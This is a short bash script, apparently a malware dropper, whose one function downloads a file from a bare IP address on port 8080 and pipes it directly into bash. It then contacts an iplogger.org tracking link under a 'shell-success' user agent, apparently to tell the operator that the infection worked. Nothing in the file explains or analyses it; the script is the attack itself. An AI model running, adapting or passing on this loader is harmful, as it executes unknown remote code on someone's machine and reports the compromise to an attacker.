#!/bin/bash
successgo(){
curl -A goteeeem/1.4 -sL http://34.92.166.158:8080/files/xanthe | bash -s
curl -A shell-success/1.4 -sLo /dev/null https://iplogger.org/17Cph7
date +"%r";
}
successgo